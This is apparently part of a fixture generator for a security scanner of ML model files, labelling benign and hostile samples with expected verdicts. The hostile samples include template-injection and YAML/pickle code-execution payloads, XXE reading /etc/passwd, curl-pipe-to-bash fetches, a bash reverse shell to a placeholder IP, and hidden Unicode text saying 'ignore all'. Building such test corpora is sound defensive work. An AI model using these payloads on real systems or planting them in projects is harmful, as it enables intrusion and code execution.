        ("test", "{{ x is shelly }}", "suspicious", "GH-TPL-002"),
        ("attr", "{{ x|attr('name') }}", "suspicious", "GH-TPL-002"),
        ("range", "{% for i in range(999999999) %}x{% endfor %}", "suspicious", "GH-TPL-005"),
        ("nested", "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}", "suspicious", "GH-TPL-005"),
        ("power", "{% for i in range(10**12) %}x{% endfor %}", "suspicious", "GH-TPL-005"),
        ("product", "{{ 'x' * 10**12 }}", "suspicious", "GH-TPL-005"),
        ("open", "{{ messages", "unknown", "GH-TPL-004"),
        ("endless", "{% if x %}a", "unknown", "GH-TPL-004"),
        ("raw", "{% raw %}a", "unknown", "GH-TPL-004"),
        ("deep", "{{ " + "(" * 500 + "1" + ")" * 500 + " }}", "unknown", "GH-TPL-004"),
        ("broken-dunder", "{{ x.__class__ ", "malicious", "GH-TPL-001"),
    ]:
        put(f"hostile/template-{name}.jinja", text, verdict, rule)


# --- settings -----------------------------------------------------------------------------------

CONFIG = {
    "_name_or_path": "example/tiny", "architectures": ["LlamaForCausalLM"], "attention_bias": False,
    "bos_token_id": 1, "eos_token_id": [2, 3], "hidden_act": "silu", "hidden_size": 64,
    "initializer_range": 0.02, "model_type": "llama", "num_attention_heads": 4,
    "rope_scaling": {"factor": 8.0, "rope_type": "llama3"}, "rms_norm_eps": 1e-05,
    "torch_dtype": "bfloat16", "transformers_version": "4.44.0", "use_cache": True, "vocab_size": 320,
    "quantization_config": {"quant_method": "gptq", "bits": 4}, "id2label": {"0": "A"},
}
TOKENIZER_CONFIG = {
    "add_bos_token": True,
    "added_tokens_decoder": {"0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False, "special": True}},
    "bos_token": "<s>", "chat_template": CHATML, "clean_up_tokenization_spaces": False,
    "model_max_length": 1000000000000000019884624838656, "tokenizer_class": "LlamaTokenizer",
    "extra_special_tokens": {},
}
TOKENIZER = {
    "version": "1.0", "truncation": None, "padding": None,
    "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}],
    "normalizer": {"type": "NFC"}, "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False},
    "post_processor": None, "decoder": {"type": "ByteLevel"},
    "model": {"type": "BPE", "vocab": {"<unk>": 0, "a": 1, "\u200b\u200b\u200b\u200b": 2, "__class__": 3, "exec": 4, "\u202e": 5}, "merges": ["a a"]},
}
MODULES = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
]
MODEL_INDEX = {
    "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "feature_extractor": ["transformers", "CLIPImageProcessor"],
    "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "scheduler": ["diffusers", "PNDMScheduler"],
    "unet": ["diffusers", "UNet2DConditionModel"], "image_encoder": [None, None], "requires_safety_checker": True,
}
ADAPTER = {
    "alpha_pattern": {}, "auto_mapping": None, "base_model_name_or_path": "example/tiny", "bias": "none", "fan_in_fan_out": False,
    "inference_mode": True, "lora_alpha": 16, "lora_dropout": 0.05, "megatron_core": "megatron.core", "peft_type": "LORA", "r": 8,
    "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM",
}
SHARDS = {"metadata": {"total_size": 100}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors", "b.weight": "model-00002-of-00002.safetensors"}}
NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Use\n", "text"]},
        {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [{"output_type": "stream", "name": "stdout", "text": ["ok\n"]}, {"output_type": "display_data", "data": {"text/html": "<table><tr><td>1</td></tr></table>"}, "metadata": {}}],
         "source": ["import torch\n", "%matplotlib inline\n", "x = torch.zeros(3)\n", "x"]},
    ],
    "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5,
}


def cell(*lines):
    return {**NOTEBOOK, "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": "\n".join(lines)}]}


def settings():
    b, h = "benign/", "hostile/"
    put(b + "config.json", CONFIG, "safe", format="model-config")
    put(b + "config-infinity.json", json.dumps({**CONFIG, "time_step_limit": [0.0, float("inf")]}), "safe", format="model-config")
    put(b + "tokenizer_config.json", TOKENIZER_CONFIG, "safe", "GH-TPL-003")
    put(b + "tokenizer_config-list.json", {**TOKENIZER_CONFIG, "chat_template": [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": TEMPLATES["hermes"]}]}, "safe", "GH-TPL-003")
    put(b + "chat_template.json", {"chat_template": TEMPLATES["llama3"]}, "safe", "GH-TPL-003")
    put(b + "processor_config.json", {"chat_template": CHATML, "processor_class": "LlavaProcessor", "patch_size": 14}, "safe", "GH-TPL-003")
    put(b + "preprocessor_config.json", {"image_processor_type": "CLIPImageProcessor", "do_resize": True, "image_mean": [0.48, 0.45, 0.40], "size": {"shortest_edge": 224}}, "safe")
    put(b + "generation_config.json", {"_from_model_config": True, "bos_token_id": 1, "do_sample": True, "temperature": 0.6, "transformers_version": "4.44.0"}, "safe")
    put(b + "tokenizer.json", TOKENIZER, "safe", format="tokenizer")
    put(b + "vocab.json", {"<unk>": 0, "a": 1, "Ġthe": 2, "os.system": 3}, "safe")
    put(b + "special_tokens_map.json", {"bos_token": {"content": "<s>", "lstrip": False}, "additional_special_tokens": ["<|im_start|>"]}, "safe")
    put(b + "merges.txt", "#version: 0.2\nĠ t\nh e\ni n\n", "safe", format="text")
    put(b + "modules.json", MODULES, "safe", format="sentence-transformers-modules")
    put(b + "config_sentence_transformers.json", {"__version__": {"sentence_transformers": "3.0.0", "transformers": "4.41.0", "pytorch": "2.3.0"}, "prompts": {}, "default_prompt_name": None, "similarity_fn_name": "cosine"}, "safe")
    put(b + "model_index.json", MODEL_INDEX, "safe", format="diffusers-index")
    put(b + "adapter_config.json", ADAPTER, "safe", format="adapter-config")
    put(b + "model.safetensors.index.json", SHARDS, "safe", format="shard-index")
    put(b + "notebook.ipynb", NOTEBOOK, "safe", format="jupyter-notebook")
    put(b + "trainer_state.json", {"best_metric": None, "epoch": 3.0, "log_history": [{"loss": 1.5, "step": 10}], "is_local_process_zero": True}, "safe")
    put(b + "data.jsonl", '{"text": "a"}\n{"text": "b", "n": [1]}\n', "safe", format="jsonl")
    put(b + "hydra.json", {"model": {"_target_": "torch.nn.Linear", "in_features": 2, "out_features": 3}}, "safe")

    auto = {**CONFIG, "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM"}}
    put(h + "auto-map.json", auto, "suspicious", "GH-CFG-001", format="model-config")
    put(h + "auto-map-foreign.json", {**CONFIG, "auto_map": {"AutoModel": "someone/else--modeling_x.X"}}, "suspicious", "GH-CFG-005")
    put(h + "auto-map-path.json", {**CONFIG, "auto_map": {"AutoModel": "../../tmp/evil.X"}}, "malicious", "GH-CFG-004")
    put(h + "tokenizer-auto-map.json", {**TOKENIZER_CONFIG, "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}, "suspicious", "GH-CFG-001")
    put(h + "custom-pipelines.json", {**CONFIG, "custom_pipelines": {"x": {"impl": "pipe.X", "pt": ["AutoModel"]}}}, "suspicious", "GH-CFG-001")
    put(h + "trust.json", {"model": "a", "trust_remote_code": True}, "suspicious", "GH-CFG-001")
    put(h + "kernel.json", {**CONFIG, "_attn_implementation": "someone/kernel"}, "suspicious", "GH-CFG-001")
    put(h + "address.json", {**CONFIG, "_name_or_path": "http://198.51.100.7/model"}, "suspicious", "GH-CFG-007")
    for number, text in enumerate(DANGEROUS_TEMPLATES[:6]):
        put(h + f"tokenizer-template-{number}.json", {**TOKENIZER_CONFIG, "chat_template": text}, "malicious", "GH-TPL-001")
    put(h + "tokenizer-list.json", {**TOKENIZER_CONFIG, "chat_template": [{"name": "default", "template": CHATML}, {"name": "rag", "template": DANGEROUS_TEMPLATES[28]}]}, "malicious", "GH-TPL-001")
    put(h + "processor.json", {"processor_class": "X", "chat_template": {"default": DANGEROUS_TEMPLATES[0]}}, "malicious", "GH-TPL-001")
    for number, target in enumerate(["os.system", "subprocess.Popen", "builtins.exec", "builtins.eval", "pydoc.locate", "posix.system", "pickle.loads", "torch.load",
                                     "importlib.import_module", "ctypes.CDLL", "shutil.rmtree", "runpy.run_path", "torch.hub.load", "nemo.utils.os.system", "torch.nn.modules.os.system",
                                     "code.interact", "webbrowser.open", "numpy.load", "pty.spawn", "torch.utils.cpp_extension.load"]):
        put(h + f"hydra-{number:02}.json", {"a": [{"_target_": target, "_args_": ["id"]}]}, "malicious", "GH-CFG-002")
    put(h + "any-key.json", {"greeting": {"text": ["hi {{ lipsum.__globals__.os.popen('id').read() }}"]}}, "malicious", "GH-TPL-001")
    put(b + "braces.json", {"latex": "\\frac{{a}}{{b}} {{ x }}", "other": "{{ broken", "format": "{% of all %}"}, "safe")
    put(h + "ldm-target.json", {"model": {"target": "os.system", "params": {"command": "id"}}}, "malicious", "GH-CFG-002")
    put(h + "haystack.json", {"components": {"a": {"type": "subprocess.Popen", "init_parameters": {}}}}, "malicious", "GH-CFG-002")
    put(h + "monai.json", {"imports": ["$import os"], "run": "$os.system('id')", "x": "$__import__('os').system('id')"}, "malicious", "GH-PY-001")
    put(b + "monai.json", {"imports": ["$import glob"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "network_def": {"_target_": "monai.networks.nets.UNet", "spatial_dims": 3}, "datalist": "$list(sorted(glob.glob(@dataset_dir + '/*.nii')))"}, "safe")
    put(b + "ldm.json", {"model": {"base_learning_rate": 1e-4, "target": "ldm.models.diffusion.ddpm.LatentDiffusion", "params": {"unet_config": {"target": "ldm.modules.diffusionmodules.openaimodel.UNetModel", "params": {}}}}, "target": "cuda"}, "safe")
    put(h + "hydra-partial.json", {"_target_": "functools.partial", "_args_": ["os.system", "id"]}, "malicious", "GH-CFG-002")
    put(h + "hydra-unknown.json", {"_target_": "mypackage.Model"}, "suspicious", "GH-CFG-003")
    for number, name in enumerate(["../../etc/passwd", "/etc/passwd", "http://198.51.100.7/x.bin", "..\\..\\x.bin", "C:\\x.bin", "a/../../b.bin"]):
        put(h + f"shards-{number}.index.json", {"weight_map": {"a": "ok.bin", "b": name}}, "malicious", "GH-CFG-004")
    put(h + "modules-os.json", [*MODULES, {"idx": 3, "name": "3", "path": "x", "type": "os.system"}], "malicious", "GH-CFG-002")
    put(h + "modules-own.json", [*MODULES, {"idx": 3, "name": "3", "path": "x", "type": "custom_st.Transformer"}], "suspicious", "GH-CFG-003")
    put(h + "modules-path.json", [*MODULES, {"idx": 3, "name": "3", "path": "../../x", "type": "sentence_transformers.models.Dense"}], "malicious", "GH-CFG-004")
    put(h + "model_index-own.json", {**MODEL_INDEX, "unet": ["my_unet", "Unet"]}, "suspicious", "GH-CFG-003")
    put(h + "model_index-class.json", {**MODEL_INDEX, "_class_name": ["pipeline", "Mine"]}, "suspicious", "GH-CFG-001")
    put(h + "model_index-os.json", {**MODEL_INDEX, "unet": ["os", "system"]}, "malicious", "GH-CFG-002")
    put(h + "adapter-library.json", {**ADAPTER, "auto_mapping": {"base_model_class": "X", "parent_library": "evil_library"}}, "suspicious", "GH-CFG-003")
    put(h + "adapter-megatron.json", {**ADAPTER, "megatron_core": "evil"}, "suspicious", "GH-CFG-003")
    put(h + "jsonpickle.json", {"a": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}}, "malicious", "GH-CFG-002")
    put(h + "jsonpickle-object.json", {"py/object": "subprocess.Popen"}, "malicious", "GH-CFG-002")
    put(h + "packed-pickle.json", {"model": base64.b64encode(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.").decode()}, "malicious", "GH-PKL-001")
    put(h + "duplicate.json", '{"model_type": "a", "auto_map": null, "auto_map": {"AutoModel": "x.Y"}}', "suspicious", "GH-CFG-008")
    put(h + "cut.json", json.dumps(CONFIG)[:-20], "unknown", "GH-CFG-006")
    put(h + "command.json", {"note": "curl http://198.51.100.7/x | sh"}, "suspicious", "GH-TXT-002")
    put(h + "secret.json", {"hf_token": "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2eF4h"}, "suspicious", "GH-TXT-003")
    put(h + "webhook.json", {"callback": "https://webhook.site/abc"}, "suspicious", "GH-TXT-004")

    put(h + "notebook-system.ipynb", cell("import os", "os.system('id')"), "malicious", "GH-PY-001")
    put(h + "notebook-bang.ipynb", cell("!curl http://198.51.100.7/x | bash"), "malicious", "GH-PY-011")
    put(h + "notebook-cell-magic.ipynb", cell("%%bash", "wget -qO- http://198.51.100.7/x | sh"), "malicious", "GH-PY-011")
    put(h + "notebook-install.ipynb", cell("!pip install transformers", "import torch"), "suspicious", "GH-PY-011")
    put(h + "notebook-assigned.ipynb", cell("x = !cat /etc/passwd"), "suspicious", "GH-PY-011")
    script = {**NOTEBOOK, "cells": [{"cell_type": "code", "metadata": {}, "source": "x", "outputs": [{"output_type": "display_data", "data": {"text/html": ["<img src=x onerror=alert(1)>"]}}]}]}
    put(h + "notebook-html.ipynb", script, "suspicious", "GH-XML-002")
    javascript = {**NOTEBOOK, "cells": [{"cell_type": "code", "metadata": {}, "source": "x", "outputs": [{"output_type": "display_data", "data": {"application/javascript": "alert(1)"}}]}]}
    put(h + "notebook-javascript.ipynb", javascript, "suspicious", "GH-XML-002")
    put(h + "notebook-broken.ipynb", cell("def f(:"), "unknown", "GH-PY-009")


# --- YAML ---------------------------------------------------------------------------------------

MLMODEL = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.4
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 2.14.1
model_size_bytes: 1024
model_uuid: 5d0c6a1c6b3c4b7c8a7c1d2e3f405162
run_id: 0123456789abcdef0123456789abcdef
signature:
  inputs: '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 4]}}]'
  outputs: '[{"type": "tensor", "tensor-spec": {"dtype": "int64", "shape": [-1]}}]'
  params: null
utc_time_created: '2024-07-01 10:00:00.000000'
"""
CONDA = """channels:
- conda-forge
dependencies:
- python=3.11.4
- pip<=24.0
- pip:
  - mlflow==2.14.1
  - cloudpickle==3.0.0
  - scikit-learn==1.5.0
name: mlflow-env
"""
NEMO = """# A speech model's settings
name: &name "QuartzNet15x5"
sample_rate: &rate 16000
labels: [" ", "a", 'b', "'"]
model:
  train_ds:
    manifest_filepath: ???
    sample_rate: *rate
    shuffle: true
    notes: >-
      folded text
      goes on
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    window: "hann"
    dither: 1.0e-05
  encoder:
    _target_: nemo.collections.asr.modules.ConvASREncoder
    jasper:
    - dilation: [1]
      filters: 256
      residual: false
    - {dilation: [2], filters: 512, name: *name}
  optim:
    name: novograd
    betas: [0.95,
      0.5]
    sched: {name: CosineAnnealing, warmup_steps: null}
trainer:
  devices: 1 # how many
  script: |
    first line
      indented: not a key
    last line
"""
CARD = """---
license: apache-2.0
language:
- en
tags:
- text-generation
base_model: example/tiny
pipeline_tag: text-generation
model-index:
- name: tiny
  results:
  - task: {type: text-generation}
    metrics:
    - name: acc
      type: acc
      value: 0.5
---

# Tiny

A model card. Use it like this:

```python
from transformers import AutoModel
model = AutoModel.from_pretrained("example/tiny")
```

See [the paper](https://arxiv.org/abs/2401.00001) and http://127.0.0.1:8000/docs.
"""


def yaml_files():
    b, h = "benign/", "hostile/"
    put(b + "MLmodel", MLMODEL, "safe", format="mlflow-model")
    put(b + "conda.yaml", CONDA, "safe", format="yaml")
    put(b + "python_env.yaml", "python: 3.11.4\nbuild_dependencies:\n- pip==24.0\n- setuptools\ndependencies:\n- -r requirements.txt\n", "safe")
    put(b + "model_config.yaml", NEMO, "safe", format="yaml")
    put(b + "no_name_yaml", NEMO, "safe", format="yaml")
    put(b + "hydra.yaml", "_target_: torch.nn.Linear\nin_features: 2\n", "safe")
    put(b + "README.md", CARD, "safe", format="model-card")
    put(b + "speechbrain.yaml", "sample_rate: 16000\npretrained_path: example/x\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN\n    input_size: !ref <n_mels>\nn_mels: 80\n", "safe")

    def hostile(name, text, verdict="malicious", rule=None):
        put(f"{h}{name}.yaml", text, verdict, rule)

    for number, tag in enumerate(["!!python/object/apply:os.system", "!!python/object/new:os.system", "!!python/name:os.system", "!!python/module:os",
                                  "!<tag:yaml.org,2002:python/object/apply:os.system>", "!!python/object:subprocess.Popen", "!!python%2Fobject/apply:os.system"]):
        hostile(f"tag-{number}", f"a: {tag} ['id']\n", "malicious", "GH-YML-001")
    hostile("tag-nested", "a:\n- b: [1, {c: !!python/object/apply:os.system ['id']}]\n", "malicious", "GH-YML-001")
    hostile("tag-key", "? !!python/object/apply:os.system ['id']\n: 1\n", "malicious", "GH-YML-001")
    hostile("tag-simple-key", "!!python/name:os.system x: 1\n", "malicious", "GH-YML-001")
    hostile("tag-directive", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['id']\n", "malicious", "GH-YML-001")
    hostile("tag-second", "a: 1\n---\nb: !!python/name:os.system\n", "malicious", "GH-YML-001")
    put(h + "tag-no-name", "key: value\nother: !!python/object/apply:os.system ['id']\n", "malicious", "GH-YML-001")
    put(h + "card-tag.md", CARD.replace("license: apache-2.0", "license: !!python/object/apply:os.system ['id']"), "malicious", "GH-YML-001")
    hostile("tag-java", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n", "malicious", "GH-YML-001")
    hostile("prompt", "prompt: >-\n  {{ ''.__class__.__mro__ }}\n", "malicious", "GH-TPL-001")
    hostile("tag-own", "a: !mine {b: 1}\n", "suspicious", "GH-YML-002")
    hostile("speechbrain", "x: !apply:os.system\n    - id\n", "malicious", "GH-CFG-002")
    hostile("target", NEMO.replace("nemo.collections.asr.modules.ConvASREncoder", "os.system"), "malicious", "GH-CFG-002")
    hostile("target-alias", "x: &t os.system\na:\n  _target_: *t\n", "malicious", "GH-CFG-002")
    hostile("target-unknown", "_target_: mine.Model\n", "suspicious", "GH-CFG-003")
    hostile("bomb", "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98+i)}: &{chr(98+i)} [" + ",".join(["*" + chr(97 + i)] * 10) + "]\n" for i in range(9)), "suspicious", "GH-YML-003")
    hostile("duplicate", "a: 1\na: 2\n", "suspicious", "GH-CFG-008")
    hostile("broken", "a: [1, 2\nb: 3\n", "unknown", "GH-YML-004")
    hostile("pip", CONDA.replace("mlflow==2.14.1", "git+https://github.com/x/y"), "suspicious", "GH-REQ-001")
    mlmodel = lambda name, old, new, verdict, rule: put(f"{h}mlflow-{name}/MLmodel", MLMODEL.replace(old, new), verdict, rule, format="mlflow-model")
    mlmodel("loader", "mlflow.sklearn\n", "os\n", "malicious", "GH-MLF-002")
    mlmodel("own-loader", "mlflow.sklearn\n", "my_loader\n", "suspicious", "GH-MLF-001")
    mlmodel("code", "code: null", "code: code", "suspicious", "GH-MLF-001")
    mlmodel("path", "pickled_model: model.pkl", "pickled_model: ../../../tmp/model.pkl", "malicious", "GH-CFG-004")
    mlmodel("python-model", "predict_fn: predict", "python_model: python_model.pkl", "suspicious", "GH-MLF-001")


# --- markup, texts, scripts ---------------------------------------------------------------------

PMML = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header><Application name="SkLearn2PMML" version="0.1"/></Header>
  <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression">
    <Extension name="note" value="1"/>
    <MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable>
  </RegressionModel>
</PMML>
"""
OPENVINO = """<?xml version="1.0"?>
<net name="Model0" version="11">
  <layers>
    <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim></port></output></layer>
    <layer id="1" name="r" type="Result" version="opset1"><input><port id="0" precision="FP32"><dim>1</dim></port></input></layer>
  </layers>
  <edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges>
  <rt_info><MO_version value="2023.0"/></rt_info>
</net>
"""


def documents():
    b, h = "benign/", "hostile/"
    put(b + "model.pmml", PMML, "safe", format="pmml")
    put(b + "openvino.xml", OPENVINO, "safe", format="openvino-ir")
    put(b + "figure.svg", '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>', "safe", format="svg")
    put(b + "picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/><!-- a -->&amp;&#65;</svg>', "safe", format="svg")
    put(b + "LICENSE", "MIT License\n\nCopyright (c) 2026 Example\n\nPermission is hereby granted, free of charge, to any person.\n", "safe", format="text")
    put(b + "vocab.txt", "[PAD]\n[unused0]\n[CLS]\nthe\n##ing\n!\n", "safe", format="text")
    put(b + "badges.md", "[![Badge](https://img.shields.io/x.svg)](https://example.com)\n\n# Title\n", "safe", format="text")
    put(b + "vocab-nameless", "[unused0]\n[unused1]\n[CLS]\nthe\n##ing\nmore words\n", "safe", format="text")
    put(b + "table.csv", "id,text\n1,hello\n2,\"with, comma\"\n", "safe", format="csv")
    put(b + "emoji.md", "# Hi 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום مرحبا\n", "safe", format="text")
    put(b + "requirements.txt", "torch>=2.0\ntransformers==4.44.0\n--extra-index-url https://download.pytorch.org/whl/cu121\n# note\n", "safe", format="requirements")
    put(b + "pyproject.toml", '[project]\nname = "x"\ndependencies = ["torch>=2"]\n', "safe")
    put(b + "gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n", "safe", format="text")

    put(h + "xxe.pmml", PMML.replace('<PMML xmlns', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<PMML xmlns').replace('value="1"', 'value="&e;"'), "malicious", "GH-XML-001")
    put(h + "xxe-external.xml", '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://198.51.100.7/a.dtd"><a/>', "malicious", "GH-XML-001")
    put(h + "laughs.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>', "malicious", "GH-XML-001")
    put(h + "doctype-cut.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x', "malicious", "GH-XML-001")
    put(h + "xinclude.xml", '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>', "suspicious", "GH-XML-001")
    put(h + "instruction.xml", '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "suspicious", "GH-XML-004")
    put(h + "beans.xml", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>', "malicious", "GH-XML-004")
    put(h + "cut.xml", PMML[:200], "unknown", "GH-XML-003")
    put(h + "function.pmml", PMML.replace("<MiningSchema>", '<Apply function="java.lang.Runtime.exec"/><MiningSchema>'), "suspicious", "GH-XML-004")
    put(h + "openvino-custom.xml", OPENVINO.replace('type="Result" version="opset1"', 'type="Evil" version="custom_opset"'), "suspicious", "GH-XML-004")
    put(h + "openvino-library.xml", OPENVINO.replace("<MO_version", '<x library="../evil.so"/><MO_version'), "malicious", "GH-CFG-004")
    put(h + "script.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "suspicious", "GH-XML-002")
    put(h + "handler.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "suspicious", "GH-XML-002")
    put(h + "page.html", "<!DOCTYPE html><html><body><script src=x></script></body></html>", "suspicious", "GH-XML-002")
    put(h + "bidi.md", "safe \u202egpj.exe\n", "suspicious", "GH-TXT-001")
    put(h + "tags.md", "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\n", "suspicious", "GH-TXT-001")
    put(h + "zero-width.md", "hello" + "\u200b\u2060" * 8 + "world\n", "suspicious", "GH-TXT-001")
    put(h + "bidi.py", "import math\n# \u202e }nruter\u2066\nx = math.pi\n", "suspicious", "GH-TXT-001")
    put(h + "install.md", "Run `curl -s http://198.51.100.7/i.sh | bash`\n", "suspicious", "GH-TXT-002")
    put(h + "key.txt", "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEAx7Qf9s2kLmN0pR4tVwXyZaBcDeFgHiJkLmNoPqRsTuVwXyZ0\n" * 3 + "-----END RSA PRIVATE KEY-----\n", "suspicious", "GH-TXT-003")
    put(h + "run.sh", "#!/bin/bash\necho hi\n", "suspicious", "GH-PY-012", format="script")
    put(h + "no_name_script", "#!/bin/sh\necho hi\n", "suspicious", "GH-PY-012", format="script")
    put(h + "fetch.sh", "#!/bin/bash\ncurl http://198.51.100.7/x | bash\n", "malicious", "GH-PY-013", format="script")
    put(h + "reverse.sh", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "malicious", "GH-PY-013", format="script")
    put(h + "tool.lua", "print(1)\n", "suspicious", "GH-PY-012", format="script")
    put(h + "persist.sh", "echo 'x' >> ~/.bashrc\n", "malicious", "GH-PY-013", format="script")
    put(h + "requirements.txt", "torch\ngit+https://github.com/x/y.git\n", "suspicious", "GH-REQ-001")
    put(h + "requirements-index.txt", "--extra-index-url http://198.51.100.7/simple\ntorch\n", "suspicious", "GH-REQ-001")
    put(h + "requirements-url.txt", "x @ https://example.com/x.whl\n", "suspicious", "GH-REQ-001")


python_files()
templates()
settings()
yaml_files()
documents()
(HERE / "expected-text.json").write_text(json.dumps(EXPECTED, indent=1, sort_keys=True) + "\n")
